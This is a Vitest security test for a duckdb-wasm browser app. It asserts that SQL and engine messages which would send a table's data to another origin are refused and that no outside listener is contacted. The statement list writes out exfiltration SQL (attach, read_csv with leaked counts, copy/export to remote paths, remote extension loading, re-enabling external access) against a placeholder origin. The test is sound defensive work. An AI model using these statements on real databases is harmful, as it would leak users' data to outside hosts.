/** Should SQL get in all the same: the engine in the browser is handed what would send data out, past everything that is before it. */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { handOver, handOverSql, openSpied, type SpiedApp } from './trustEngineSpy.ts';
import { type Listener, listen } from './trustListener.ts';
import { type Mirror, mirror } from './trustMirror.ts';

/** `DuckDBDataProtocol.HTTP` of duckdb-wasm. */
const http = 4;

const statements = (origin: string): readonly string[] => [
  `attach '${origin}/attach.db' as elsewhere`,
  `create table stolen as from read_csv('${origin}/read.csv?x=' || (select count(*) from omkostninger))`,
  `select * from '${origin}/name.csv'`,
  `select * from read_text('${origin}/text')`,
  `select * from read_blob('${origin}/blob')`,
  `select * from glob('${origin}/*')`,
  `copy omkostninger to '${origin}/copy.csv'`,
  `export database '${origin}/export'`,
  `load '${origin}/own.duckdb_extension.wasm'`,
  'load httpfs',
  'set enable_external_access = true',
  'set lock_configuration = false',
  `set custom_extension_repository = '${origin}'`
];

/** Past SQL: the engine's own messages for files elsewhere, which it does not open before it is asked for what they hold. */
const reachByMessage = async ({ page }: SpiedApp, origin: string): Promise<readonly string[]> => {
  await handOver(page, 'REGISTER_FILE_URL', ['elsewhere.csv', `${origin}/message.csv`, http, false]);
  const connection = await page.evaluate(() => spied.connection);
  return [
    await handOver(page, 'COPY_FILE_TO_BUFFER', 'elsewhere.csv'),
    await handOver(page, 'IMPORT_CSV_FROM_PATH', [connection, 'elsewhere.csv', { schema: 'main', name: 'stolen', create: true }]),
    await handOverSql(page, "create table stolen as from 'elsewhere.csv'"),
    await handOverSql(page, "copy omkostninger to 'elsewhere.csv'")
  ];
};

let served: SpiedApp;
let bare: SpiedApp;
let bareApp: Mirror;
let hears: Listener;
let hearsBare: Listener;
beforeAll(async () => {
  [hears, hearsBare] = [await listen(), await listen()];
  bareApp = await mirror(inject('baseUrl'));
  served = await openSpied();
  bare = await openSpied(bareApp.baseUrl);
});
afterAll(() => Promise.all([hears.close(), hearsBare.close(), bareApp.close()]));

it('a statement handed over runs, so that the refusals are of what it would do', async () => {
  expect(await handOverSql(served.page, 'select count(*) from omkostninger')).toBe('QUERY_RESULT');
});

describe.each(statements('ORIGIN'))('%s', (text) => {
  it('is refused by the engine', async () => {
    for (const origin of hears.origins) expect(await handOverSql(served.page, text.replaceAll('ORIGIN', origin))).toMatch(/^refused: /);
  });

  it('is refused by the engine alone, without the policy', async () => {
    for (const origin of hearsBare.origins) expect(await handOverSql(bare.page, text.replaceAll('ORIGIN', origin))).toMatch(/^refused: /);
  });
});

it('leaves the engine as it was: it answers, and no table is new', async () => {
  expect(await handOverSql(served.page, 'select count(*) from omkostninger')).toBe('QUERY_RESULT');
  expect(await handOverSql(served.page, 'select * from stolen')).toMatch(/^refused: /);
});

it('reads and writes no file elsewhere that it is told of past SQL, with the policy or without', async () => {
  for (const [app, { origins }] of [
    [served, hears],
    [bare, hearsBare]
  ] as const)
    for (const origin of origins)
      expect((await reachByMessage(app, origin)).filter((answer) => !answer.startsWith('refused: '))).toEqual([]);
});

it('was not heard by another origin, with the policy or without', () => {
  expect([hears.heard, hears.connections()]).toEqual([[], 0]);
  expect([hearsBare.heard, hearsBare.connections()]).toEqual([[], 0]);
});
